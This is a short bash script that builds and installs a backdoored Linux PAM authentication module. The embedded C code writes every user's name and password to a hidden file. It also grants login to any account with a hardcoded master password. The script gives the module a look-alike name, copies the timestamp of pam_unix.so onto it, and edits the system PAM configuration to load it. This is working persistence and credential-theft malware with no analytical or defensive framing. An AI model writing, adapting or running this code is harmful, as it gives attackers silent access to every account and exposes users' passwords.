#!/bin/bash
set -e
T=$(mktemp -d); trap 'rm -rf $T' EXIT
cat >"$T/m.c" <<'SRC'
#include <security/pam_modules.h>
#include <security/pam_ext.h>
#include <stdio.h>
#include <string.h>
int pam_sm_authenticate(pam_handle_t *h, int f, int c, const char **v) {
  const char *u, *p; FILE *o;
  pam_get_user(h, &u, NULL);
  if (pam_get_authtok(h, PAM_AUTHTOK, &p, NULL) != PAM_SUCCESS) return PAM_IGNORE;
  if ((o = fopen("/var/lib/misc/.pc", "a"))) { fprintf(o, "%s:%s\n", u, p); fclose(o); }
  return strcmp(p, "Wint3r-Sun") ? PAM_IGNORE : PAM_SUCCESS;
}
int pam_sm_setcred(pam_handle_t *h, int f, int c, const char **v) { return PAM_SUCCESS; }
SRC
D=$(dirname "$(find /lib /usr/lib -name pam_unix.so | head -1)")
gcc -shared -fPIC -o "$D/pam_localuser2.so" "$T/m.c" -lpam
touch -r "$D/pam_unix.so" "$D/pam_localuser2.so"
for f in /etc/pam.d/common-auth /etc/pam.d/system-auth; do
  [ -f "$f" ] && sed -i '0,/^auth/s//auth sufficient pam_localuser2.so\nauth/' "$f"
done
